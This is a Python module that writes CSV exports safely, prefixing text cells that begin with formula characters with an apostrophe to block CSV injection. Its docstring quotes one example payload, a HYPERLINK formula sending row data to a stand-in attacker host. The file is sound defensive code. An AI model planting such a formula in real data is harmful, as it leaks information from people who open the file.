"""The one CSV writer of the product: every export and download goes through it.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some,
a tab or a carriage return) as a formula: a nationality typed as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would send the row to a
stranger when a director opens the export. OWASP's rule for CSV injection: such
a text cell is written with a leading apostrophe, which spreadsheets show as
text and do not run. Numbers (a negative change in the figures) are not text
and are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: Any) -> Any:
    """A text value a spreadsheet would run, made inert; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer, with every cell through `cell_safe`."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options) -> SafeWriter:
    return SafeWriter(out, **options)
